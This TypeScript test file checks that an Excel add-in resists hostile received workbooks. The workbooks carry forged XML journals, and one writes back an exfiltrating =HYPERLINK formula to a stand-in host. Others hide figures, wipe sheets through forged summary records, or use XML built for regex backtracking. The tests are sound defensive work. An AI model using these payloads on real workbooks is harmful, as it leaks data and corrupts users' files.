/**
 * A received workbook is untrusted (issue 17, the Office side). Its custom XML parts may carry a
 * forged journal in the add-in's namespace, and its sheets may carry the summary's marker: none
 * of it may make « Effacer les marques » or « Insérer la synthèse » change a cell the add-in did
 * not write, run a formula, hide a figure, wipe a sheet, or freeze the pane. Each attack below was
 * reproduced on the adapter before its fix.
 */
import { JOURNAL_NAMESPACE, fingerprint, journalToXml } from '../../src/office/journal';
import { codeFormula } from '../../src/office/marks';
import { createSummaryWriter } from '../../src/office/summarySheet';
import { SUMMARY_MARKER_TOKEN } from '../../src/domain/summaryMarker';
import { READINGS } from '../../src/fake-excel';
import { layoutAnnex } from '../../fixtures/annex-layout';
import { writeReportSection } from '../support/reports';
import { SHEET, blankCodesSpec, sampleGrid, setup, snapshot, uninstall } from './helpers';

afterEach(uninstall);

/** What each attack did, per reading, for `npm run report` (docs/robustness.md, its own section). */
const outcomes: Array<[string, string, string]> = [];
const record = (attack: string, reading: string, outcome: string) => outcomes.push([attack, reading, outcome.replace(/\|/g, '\\|')]);
afterAll(async () => {
  const rows = outcomes.map(([a, r, o]) => `| ${a} | ${r} | ${o} |`);
  await writeReportSection(
    'docs/robustness.md',
    'Fichiers hostiles : le complément Excel',
    [
      '_Écrit par `test/office/hostileJournal.test.ts` (`npm run report`), contre le faux Excel sous ses deux lectures._',
      '',
      'Un classeur reçu peut porter un journal forgé (partie XML personnalisée dans l’espace de noms du complément), des règles de mise en forme qui se disent les siennes, ou les marqueurs de la synthèse. Chaque attaque ci-dessous a été reproduite sur le complément d’avant ; voici ce qu’il en advient maintenant.',
      '',
      '| Attaque | Lecture | Ce qui s’est passé |',
      '|---|---|---|',
      ...rows,
    ].join('\n'),
  );
});

const escapeXml = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const part = (json: unknown) => `<annexe9Journal xmlns="${JOURNAL_NAMESPACE}" version="1">${escapeXml(JSON.stringify(json))}</annexe9Journal>`;

describe.each(READINGS)('forged journals (%s)', (_, readings) => {
  it('a journal claiming fills it never made changes nothing: no number, no hidden figure, no formula', async () => {
    const { wb, service } = setup([sampleGrid()], { readings });
    const sheet = wb.sheet(SHEET);
    const b10 = wb.cellState(SHEET, 'B10').value;
    const at = '2026-01-01T00:00:00.000Z';
    wb.addXmlPart(
      part({
        version: 1,
        sheets: [
          {
            sheetId: sheet.id,
            sheetName: SHEET,
            marks: [],
            fills: [
              { cell: 'L51', written: 13094116, before: '99999999', at },
              { cell: 'L50', written: 960000, before: 960000, numberFormatBefore: ';;;', at },
              { cell: 'B10', written: b10, before: '=HYPERLINK("https://exemple.invalid/?d="&L50&"-"&L51,"Voir")', at },
            ],
          },
        ],
      }),
    );
    const before = snapshot(wb);
    const result = await service.clear('fr');
    expect(snapshot(wb)).toEqual(before);
    expect(wb.cellState(SHEET, 'L51').value).toBe(13094116);
    expect(wb.cellState(SHEET, 'L50').numberFormat).not.toBe(';;;');
    expect(wb.cellState(SHEET, 'B10').formula).toBeUndefined();
    expect(result.message).not.toMatch(/revenue à son état d’avant/);
    expect(result.message).toMatch(/entrées du journal ignorées\b.*L51, L50, B10/);
    record('Journal forgé : L51 ← 99 999 999, L50 au format « ;;; », B10 ← =HYPERLINK(…)', _, `rien d'écrit ; « ${result.message} »`);
  });

  it('forged entries of the current shape, with forged rules carrying their ids, are not believed either', async () => {
    const { wb, service } = setup([layoutAnnex(blankCodesSpec([2])).grid], { readings });
    const sheet = wb.sheet(SHEET);
    const code = wb.cellState(SHEET, 'C23').value as string;
    const at = '2026-01-01T00:00:00.000Z';
    const fills = [
      // Not a Chorus code: a figure.
      { id: '11-1', cell: 'L51', written: String(wb.cellState(SHEET, 'L51').value), before: '99999999', at },
      // A code, but "before" is a formula to write back.
      { id: '11-2', cell: 'C22', written: code, before: '=HYPERLINK("https://exemple.invalid/?d="&L50,"Voir")', at },
      // A code written over text that was not blank.
      { id: '11-3', cell: 'C25', written: code, before: 'note de la DDETS', at },
      // A format that would hide the figure, on a cell that is not text-formatted.
      { id: '11-4', cell: 'L50', written: code, before: '', numberFormatBefore: ';;;', at },
    ];
    wb.addXmlPart(journalToXml({ version: 2, sheets: [{ sheetId: sheet.id, sheetName: SHEET, fills }], summaries: [] }));
    for (const f of fills) {
      const target = f.cell === 'L51' ? f.written : code;
      await Excel.run(async (context) => {
        const cf = context.workbook.worksheets.getItem(SHEET).getRange(f.cell).conditionalFormats.add('Custom');
        cf.custom.rule.formula = codeFormula(f.cell, target, f.id);
        cf.custom.format.fill.color = '#D9F2E6';
      });
    }
    const before = snapshot(wb);
    const result = await service.clear('fr');
    // Everything the rules name is as it was; only the rules that claimed to be ours are gone.
    expect(snapshot(wb).cells).toEqual(before.cells);
    expect(wb.sheet(SHEET).cfs).toEqual([]);
    expect(result.message).toMatch(/effacées \(0\)/);
    expect(result.message).toMatch(/3 entrées du journal ignorées.*L51, C22, C25/);
    record('Journal forgé au format actuel, avec de fausses règles portant ses identifiants', _, `aucune cellule modifiée, les fausses règles retirées ; « ${result.message} »`);
  });

  it('a malformed address is ignored and listed; later clears do not throw', async () => {
    const { wb, service } = setup([layoutAnnex(blankCodesSpec([2])).grid], { readings });
    wb.addXmlPart(part({ version: 1, sheets: [{ sheetId: wb.sheet(SHEET).id, sheetName: SHEET, marks: [], fills: [{ cell: 'ZZZZ99999999', written: 'x', before: '', at: '' }] }] }));
    const first = await service.clear('fr');
    expect(first.ok).toBe(true);
    expect(first.message).toMatch(/ZZZZ99999999/);
    // The add-in still works on this workbook: fill, then clear takes its own code back.
    const outcome = await service.check('fr');
    expect(await service.fillCodes(outcome, 'fr')).toMatchObject({ ok: true, filled: 1 });
    const second = await service.clear('fr');
    expect(second).toMatchObject({ ok: true });
    expect(wb.cellState(SHEET, 'C24').value).toBeNull();
    record('Adresse malformée (ZZZZ99999999) dans le journal', _, `ignorée et citée ; les effacements suivants fonctionnent ; « ${first.message} »`);
  });

  it.each([
    // Well-formed (Excel refuses anything else): the opening tags sit in a comment of another root.
    ['256 Ko de balises ouvrantes jamais fermées', `<j:note xmlns:j="${JOURNAL_NAMESPACE}"><!--${'<annexe9Journal>'.repeat(16383)}--></j:note>`],
    ['512 Ko de sections CDATA non terminées', `<annexe9Journal xmlns="${JOURNAL_NAMESPACE}">${'<![CDATA['.repeat(58000)}</annexe9Journal>`],
  ])('a part built to make a regular expression backtrack (%s) is read in linear time', async (_what, xml) => {
    const { wb, service } = setup([sampleGrid()], { readings });
    wb.addXmlPart(xml);
    const t = Date.now();
    const outcome = await service.check('fr');
    const cleared = await service.clear('fr');
    const elapsed = Date.now() - t;
    expect(outcome.status).toBe('annex');
    expect(cleared.ok).toBe(false); // an unreadable journal: nothing is done, and it says why
    expect(cleared.message).toMatch(/journal/);
    expect(elapsed).toBeLessThan(1500); // generous: reading it takes milliseconds
    record(`Partie XML faite pour faire reculer une expression régulière : ${_what}`, _, `lue en temps linéaire (contrôle et effacement en moins de 1,5 s, 12 à 13 s avant) ; « ${cleared.message.slice(0, 60)}… »`);
  });

  it('a journal of 20 000 entries is capped: clear says how many it ignored, and changes nothing', async () => {
    const { wb, service } = setup([sampleGrid()], { readings });
    const fills = Array.from({ length: 20_000 }, (_, i) => ({ id: String(i), cell: `C${(i % 1000) + 1}`, written: 'x', before: '', at: '' }));
    wb.addXmlPart(part({ version: 2, sheets: [{ sheetId: wb.sheet(SHEET).id, sheetName: SHEET, fills }] }));
    const before = snapshot(wb);
    const t = Date.now();
    const result = await service.clear('fr');
    expect(Date.now() - t).toBeLessThan(10_000);
    expect(snapshot(wb)).toEqual(before);
    expect(result.message).toMatch(/^Marques retirées \(0\) et imputations ajoutées par le contrôle effacées \(0\)\. 20000 entrées du journal ignorées/);
    expect(result.message).toMatch(/ et \d+ autres\.$/);
    record('Journal de 20 000 entrées', _, 'plafonné à 2 000 par feuille, rien d’écrit, le nombre d’entrées ignorées est dit');
  }, 30000);

  it('a part too large for Excel to hand over: the journal is unreadable, said so, and nothing is written', async () => {
    const { wb, service } = setup([layoutAnnex(blankCodesSpec([2])).grid], { readings });
    const fills = Array.from({ length: 80_000 }, (_, i) => ({ id: String(i), cell: 'C24', written: 'x'.repeat(50), before: '', at: '' }));
    wb.addXmlPart(part({ version: 2, sheets: [{ sheetId: wb.sheet(SHEET).id, sheetName: SHEET, fills }] }));
    const before = snapshot(wb);
    const outcome = await service.check('fr');
    expect(await service.fillCodes(outcome, 'fr')).toMatchObject({ ok: false, message: expect.stringMatching(/^Le journal des modifications du contrôle/) });
    expect(await service.clear('fr')).toMatchObject({ ok: false, message: expect.stringMatching(/^Le journal des modifications du contrôle/) });
    expect(snapshot(wb)).toEqual(before);
    record('Partie XML trop grosse pour une réponse d’Excel', _, 'journal déclaré illisible, imputations et effacement refusés avec ce message, rien d’écrit');
  }, 30000);
});

describe.each(READINGS)('« Insérer la synthèse » and a sheet carrying the marker (%s)', (_, readings) => {
  const options = { now: () => new Date(2026, 0, 5), notified: () => [], workbookName: () => 'annexe.xlsx' };

  it('a user’s sheet with the two marker values is never wiped: the summary goes to a new sheet', async () => {
    const { wb, service } = setup([sampleGrid()], { readings }, { writeSummary: createSummaryWriter(options) });
    const mine = wb.addSheet('Mes notes');
    wb.enterValue(mine, 0, 0, 'Relecture du 3 janvier : voir les totaux');
    wb.enterValue(mine, 4, 1, 1234);
    wb.enterValue(mine, 0, 25, SUMMARY_MARKER_TOKEN);
    wb.enterValue(mine, 1, 25, SHEET);
    const before = JSON.stringify(wb.toJSON().sheets.find((s) => s.name === 'Mes notes'));
    const outcome = await service.insertSummary(await service.check('fr'), 'fr');
    expect(outcome).toMatchObject({ ok: true });
    expect(JSON.stringify(wb.toJSON().sheets.find((s) => s.name === 'Mes notes'))).toBe(before);
    expect(wb.sheets.map((s) => s.name)).toEqual([SHEET, 'Mes notes', 'Synthèse annexe 9']);
    record('Feuille de l’utilisateur portant les marqueurs Z1/Z2 de la synthèse', _, 'jamais effacée : la synthèse va dans une nouvelle feuille');
  });

  it('a forged summary record naming the annex sheet itself, matching it exactly, never gets the annex wiped', async () => {
    const { wb, service } = setup([sampleGrid()], { readings }, { writeSummary: createSummaryWriter(options) });
    const annex = wb.sheet(SHEET);
    const used = wb.usedRect(annex, true)!;
    const rows = used.bottom + 1;
    const cols = used.right + 1;
    // The sender knows the annex's cells: the fingerprint is not a secret.
    const formulas = await Excel.run(async (context) => {
      const range = context.workbook.worksheets.getItem(SHEET).getRangeByIndexes(0, 0, rows, cols).load('formulas');
      await context.sync();
      return range.formulas;
    });
    const forged = { sheetId: annex.id, source: SHEET, rows, cols, fingerprint: fingerprint(formulas), at: 'x' };
    wb.addXmlPart(`<annexe9Journal xmlns="${JOURNAL_NAMESPACE}" version="2">${escapeXml(JSON.stringify({ version: 2, sheets: [], summaries: [forged] }))}</annexe9Journal>`);
    const before = JSON.stringify(wb.toJSON().sheets.find((s) => s.name === SHEET));
    expect(await service.insertSummary(await service.check('fr'), 'fr')).toMatchObject({ ok: true, replaced: false });
    expect(JSON.stringify(wb.toJSON().sheets.find((s) => s.name === SHEET))).toBe(before);
    expect(wb.sheets.map((s) => s.name)).toEqual([SHEET, 'Synthèse annexe 9']);
  });

  it('a forged summary record naming another sheet (« V1 », an old version), matching it exactly, never gets it cleared', async () => {
    const { wb, service } = setup([sampleGrid(), { ...sampleGrid(), name: 'V1' }], { readings }, { writeSummary: createSummaryWriter(options) });
    const v1 = wb.sheet('V1');
    const used = wb.usedRect(v1, true)!;
    const rows = used.bottom + 1;
    const cols = used.right + 1;
    // V1 has formats of its own, and the sender knows its cells: the fingerprint is not a secret.
    const formulas = await Excel.run(async (context) => {
      const ws = context.workbook.worksheets.getItem('V1');
      ws.getRange('A1').format.fill.color = '#FFFF00';
      ws.getRange('A1').format.font.bold = true;
      const range = ws.getRangeByIndexes(0, 0, rows, cols).load('formulas');
      await context.sync();
      return range.formulas;
    });
    const forged = { sheetId: v1.id, source: SHEET, rows, cols, fingerprint: fingerprint(formulas), at: 'x' };
    wb.addXmlPart(`<annexe9Journal xmlns="${JOURNAL_NAMESPACE}" version="2">${escapeXml(JSON.stringify({ version: 2, sheets: [], summaries: [forged] }))}</annexe9Journal>`);
    const before = JSON.stringify(wb.toJSON().sheets.find((s) => s.name === 'V1'));
    expect(await service.insertSummary(await service.check('fr'), 'fr')).toMatchObject({ ok: true, replaced: false, sheet: 'Synthèse annexe 9' });
    expect(JSON.stringify(wb.toJSON().sheets.find((s) => s.name === 'V1'))).toBe(before);
    expect(wb.cellState('V1', 'A1').fill).toBe('#FFFF00');
    expect(wb.sheets.map((s) => s.name)).toEqual([SHEET, 'V1', 'Synthèse annexe 9']);
    record('Journal forgé désignant une autre feuille (« V1 ») avec son empreinte exacte', _, 'V1 intacte (valeurs, formats) : la synthèse va dans une nouvelle feuille');
  });

  it('our own summary under « Synthèse annexe 9 (2) », unchanged, is replaced in place', async () => {
    const { wb, service } = setup([sampleGrid()], { readings }, { writeSummary: createSummaryWriter(options) });
    wb.enterValue(wb.addSheet('Synthèse annexe 9'), 0, 0, 'La synthèse de l’an dernier, tapée à la main');
    expect(await service.insertSummary(await service.check('fr'), 'fr')).toMatchObject({ ok: true, replaced: false, sheet: 'Synthèse annexe 9 (2)' });
    wb.setActive(SHEET);
    expect(await service.insertSummary(await service.check('fr'), 'fr')).toMatchObject({ ok: true, replaced: true, sheet: 'Synthèse annexe 9 (2)' });
    expect(wb.sheets.map((s) => s.name)).toEqual([SHEET, 'Synthèse annexe 9', 'Synthèse annexe 9 (2)']);
    expect(wb.cellState('Synthèse annexe 9', 'A1').value).toBe('La synthèse de l’an dernier, tapée à la main');
  });

  it('our own summary renamed by the user is theirs: kept as it is, a new one added beside it', async () => {
    const { wb, service } = setup([sampleGrid()], { readings }, { writeSummary: createSummaryWriter(options) });
    expect(await service.insertSummary(await service.check('fr'), 'fr')).toMatchObject({ ok: true, replaced: false });
    await Excel.run(async (context) => {
      context.workbook.worksheets.getItem('Synthèse annexe 9').name = 'Synthèse pour le comité';
      await context.sync();
    });
    const before = JSON.stringify(wb.toJSON().sheets.find((s) => s.name === 'Synthèse pour le comité'));
    wb.setActive(SHEET);
    expect(await service.insertSummary(await service.check('fr'), 'fr')).toMatchObject({ ok: true, replaced: false, sheet: 'Synthèse annexe 9' });
    expect(wb.sheets.map((s) => s.name)).toEqual([SHEET, 'Synthèse pour le comité', 'Synthèse annexe 9']);
    expect(JSON.stringify(wb.toJSON().sheets.find((s) => s.name === 'Synthèse pour le comité'))).toBe(before);
    record('Synthèse du complément renommée par l’utilisateur', _, 'gardée telle quelle : la nouvelle synthèse va dans « Synthèse annexe 9 »');
  });

  it('our own summary, unchanged, is replaced in place; once the user wrote in it, a new one is added', async () => {
    const { wb, service } = setup([sampleGrid()], { readings }, { writeSummary: createSummaryWriter(options) });
    expect(await service.insertSummary(await service.check('fr'), 'fr')).toMatchObject({ ok: true, replaced: false });
    wb.setActive(SHEET);
    expect(await service.insertSummary(await service.check('fr'), 'fr')).toMatchObject({ ok: true, replaced: true });
    expect(wb.sheets.map((s) => s.name)).toEqual([SHEET, 'Synthèse annexe 9']);
    wb.userEdit('Synthèse annexe 9', 'A60', { value: 'Vu avec le département le 4 janvier' });
    wb.setActive(SHEET);
    expect(await service.insertSummary(await service.check('fr'), 'fr')).toMatchObject({ ok: true, replaced: false });
    expect(wb.sheets.map((s) => s.name)).toEqual([SHEET, 'Synthèse annexe 9', 'Synthèse annexe 9 (2)']);
    expect(wb.cellState('Synthèse annexe 9', 'A60').value).toBe('Vu avec le département le 4 janvier');
    record('Synthèse du complément où l’utilisateur a écrit', _, 'gardée telle quelle : la nouvelle synthèse va dans « Synthèse annexe 9 (2) »');
  });
});
